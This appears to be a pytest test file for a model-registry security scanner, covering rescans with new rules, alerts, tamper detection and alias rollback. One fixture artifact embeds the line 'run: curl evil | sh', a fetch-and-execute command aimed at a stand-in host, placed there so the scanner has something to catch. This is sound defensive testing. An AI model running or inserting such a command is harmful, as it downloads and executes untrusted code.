"""Re-scan with today's rules: digest verified first, the report stored next to the old one with the
scanner and rules version, a new finding is exit 1 + alert, and the alias rolls back when the policy says so."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from bastion.cli.main import app
from bastion.errors import IntegrityError
from bastion.monitor.alerts import stored_alerts
from bastion.vulns.rescan import FINDING_STATUS, rescan, scanner_rules_version

runner = CliRunner()
MAGIC = b"XFMT\x01"

PLUGIN = '''
from bastion.scan import FormatScanner, Severity


class XfmtScanner(FormatScanner):
    """A rule written after the artifacts were registered: XFMT files with a 'run' section are unsafe."""

    name = "xfmt"
    version = "2"

    def sniff(self, head):
        return head.startswith(b"XFMT\\x01")

    def scan(self, stream, ctx):
        if b"run:" in stream.read():
            ctx.add("xfmt.exec", Severity.CRITICAL, "run section", "The XFMT file runs a command when loaded.",
                    "Re-export without a run section.")
'''


def _artifact(tmp_path: Path, name: str, body: bytes) -> Path:
    f = tmp_path / name
    f.write_bytes(MAGIC + body + bytes(100))
    return f


@pytest.fixture
def new_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Install a scanner plugin (a real ``bastion.scanners`` entry point) after registration."""
    from bastion.scan import _engine

    site = tmp_path / "site"
    dist = site / "xfmt_rules-1.0.dist-info"
    dist.mkdir(parents=True)
    (site / "xfmt_rules.py").write_text(PLUGIN, encoding="utf-8")
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: xfmt-rules\nVersion: 1.0\n", encoding="utf-8")
    (dist / "entry_points.txt").write_text("[bastion.scanners]\nxfmt = xfmt_rules:XfmtScanner\n", encoding="utf-8")
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.setattr(_engine, "_PLUGINS", None)  # the engine loads plugins once per process
    yield
    monkeypatch.setattr(_engine, "_PLUGINS", None)


@pytest.fixture
def opaque(project: Any, tmp_path: Path) -> Any:
    """Three versions of an opaque-format model; v1 then v2 then v3 promoted to production."""
    v1 = project.log_model(_artifact(tmp_path, "m1.xfmt", b"weights: 1\n"), name="opaque", flavor="file")
    v2 = project.log_model(_artifact(tmp_path, "m2.xfmt", b"weights: 2\n"), name="opaque", flavor="file")
    v3 = project.log_model(_artifact(tmp_path, "m3.xfmt", b"weights: 3\nrun: curl evil | sh\n"),
                           name="opaque", flavor="file")
    for mv in (v1, v2, v3):
        assert mv.scan_status == "clean"  # yesterday's scanner knew no XFMT rule
        project.promote(mv.ref, alias="production")
    return project


def test_a_clean_rescan_keeps_the_version_promotable_and_the_chain_consistent(opaque: Any) -> None:
    from bastion.gates.promotion import check_promotion

    (opaque.root / "bastion-policy.yaml").write_text(
        "version: 1\naliases:\n  staging:\n    requires: [scan]\n", encoding="utf-8")
    assert rescan(opaque, "opaque:2").status == "clean"
    decision = check_promotion(opaque, opaque.get_model("opaque:2"), "staging")
    assert decision.allowed, decision.reasons  # the new report is the newest audited scan
    r = runner.invoke(app, ["audit", "verify"])
    # the re-scan report is audited; (main today also reports the registry's unaudited flavor documents)
    assert "scan attachment" not in r.output, r.output
    assert all("flavor attachment" in line for line in r.output.splitlines() if "mismatch" in line), r.output


def test_unchanged_rules_rescan_clean_and_store_versions(opaque: Any) -> None:
    registered = opaque.attachments("opaque:3", "scan")
    before = len(registered)
    # the registration scan records the rules it applied, so the first re-scan can compare with them
    assert registered[0]["rules_version"] == scanner_rules_version()["rules_version"]
    assert registered[0]["scanner_version"] == scanner_rules_version()["scanner_version"]
    result = rescan(opaque, "opaque@production")
    assert result.previous_rules_version == result.rules_version  # unchanged rules: the same version
    assert (result.ref, result.status, result.exit_code, result.new_findings) == ("opaque:3", "clean", 0, ())
    docs = opaque.attachments("opaque:3", "scan")
    assert len(docs) == before + 1  # stored next to the registration report, which is kept
    assert docs[-1]["rescan"]["rules_version"] == scanner_rules_version()["rules_version"]
    assert docs[-1]["rescan"]["scanner_version"] and docs[-1]["rescan"]["digest_verified"] is True
    entry = opaque.audit.entries(action="model.rescan", limit=1)[0]
    assert entry.details["report"] == result.report_digest and entry.details["status"] == "clean"


def test_changed_rules_give_a_new_finding_alert_and_rollback(opaque: Any, new_rules: None) -> None:
    (opaque.root / "bastion-policy.yaml").write_text(
        "version: 1\naliases:\n  production:\n    rollback_on: [rescan_finding]\n", encoding="utf-8")
    old_rules = opaque.attachments("opaque:3", "scan")[-1]
    r = runner.invoke(app, ["model", "rescan", "opaque@production", "--json"])
    assert r.exit_code == 1, r.output
    doc = json.loads(r.output)
    assert doc["status"] == FINDING_STATUS
    assert [f["rule_id"] for f in doc["new_findings"]] == ["xfmt.exec"]
    assert doc["rules_version"] != doc["previous_rules_version"]  # the plugin is part of today's rules
    assert doc["previous_rules_version"] == old_rules["rules_version"]  # the registration scan's, not null
    assert old_rules.get("findings") == []  # the old report is still there, unchanged
    assert doc["rollbacks"] == [{"model": "opaque", "alias": "production", "rolled_back": True, "from_version": 3,
                                 "to_version": 2, "skipped": {}}]
    assert opaque.get_model("opaque@production").version == 2
    assert opaque.get_model("opaque:3").scan_status == FINDING_STATUS
    alerts = stored_alerts(opaque.db, kind="alert")
    assert [(a["rule"], a["severity"], a["model"]) for a in alerts] == [("rescan-finding", "critical", "opaque:3")]
    # the promotion rules (and the server, through the same evaluator) refuse the version now
    from bastion.gates.promotion import check_promotion

    (opaque.root / "bastion-policy.yaml").write_text(
        "version: 1\naliases:\n  staging:\n    requires: [scan]\n", encoding="utf-8")
    decision = check_promotion(opaque, opaque.get_model("opaque:3"), "staging")
    assert not decision.allowed and any("not clean" in r for r in decision.reasons), decision.reasons
    assert check_promotion(opaque, opaque.get_model("opaque:2"), "staging").allowed
    # rescanning again: the finding is known now (no new alert), and the version stays refused
    again = rescan(opaque, "opaque:3")
    assert again.new_findings == () and again.exit_code == 1 and again.status == FINDING_STATUS
    assert opaque.get_model("opaque:3").scan_status == FINDING_STATUS
    assert opaque.attachments("opaque:3", "scan")[-1]["clean"] is False


def test_no_rollback_without_the_policy_and_none_to_an_unclean_version(opaque: Any, new_rules: None) -> None:
    r = runner.invoke(app, ["model", "rescan", "opaque:3"])
    assert r.exit_code == 1 and "NEW FINDING" in r.output and "xfmt.exec" in r.output, r.output
    assert opaque.get_model("opaque@production").version == 3  # no rollback_on in a policy: alias stays
    from bastion.vulns.respond import safe_rollback

    opaque.promote("opaque:3", alias="staging")
    res = safe_rollback(opaque, "opaque", "staging", reason="test")
    assert res["rolled_back"] is False and "no earlier version" in res["reason"]


def test_tampered_artifact_is_refused_before_scanning(opaque: Any) -> None:
    mv = opaque.get_model("opaque:2")
    blob = opaque.blobs.path_of(mv.digest)
    blob.chmod(0o600)
    blob.write_bytes(MAGIC + b"run: evil\n" + bytes(100))
    before = len(opaque.attachments("opaque:2", "scan"))
    with pytest.raises(IntegrityError):
        rescan(opaque, "opaque:2")
    assert len(opaque.attachments("opaque:2", "scan")) == before
    r = runner.invoke(app, ["model", "rescan", "opaque:2"])
    assert r.exit_code == 1
